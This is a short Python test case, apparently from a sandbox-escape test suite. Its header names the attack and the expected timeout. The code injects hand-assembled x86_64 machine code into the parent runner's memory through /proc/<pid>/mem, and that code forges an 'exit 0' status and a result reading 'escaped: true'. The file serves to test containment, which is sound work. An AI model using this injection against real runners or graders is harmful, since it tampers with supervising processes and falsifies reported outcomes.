# attack: machine code in the runner's memory, by /proc, that sends a result and an exit of its own and then waits
# stopped by: wall clock, channel
# expect: timeout wall
# control: none, without a box there is no runner
# limits: wall_ms=1500
# machine: x86_64
import os
import struct
import time


def frame(letter, payload):
    return letter + struct.pack(">I", len(payload)) + payload


frames = frame(b"S", b"exit 0") + frame(b"R", b'{"escaped": true, "how": "forged"}')
# lea rsi, [rip + 26]; mov edx, LENGTH; mov edi, 3; mov eax, 1; syscall; then pause for ever
code = b"\x48\x8d\x35\x1a\0\0\0\xba" + struct.pack("<I", len(frames)) + b"\xbf\3\0\0\0\xb8\1\0\0\0\x0f\5"
code += b"\xb8\x22\0\0\0\x0f\5\xeb\xf7"
runner = os.getppid()
while not (now := open(f"/proc/{runner}/syscall").read()).startswith("7 "):
    time.sleep(0.01)  # until it waits, as it mostly does
where = int(now.split()[-1], 16)
with open(f"/proc/{runner}/mem", "r+b", buffering=0) as memory:
    memory.seek(where)
    memory.write(code + frames)
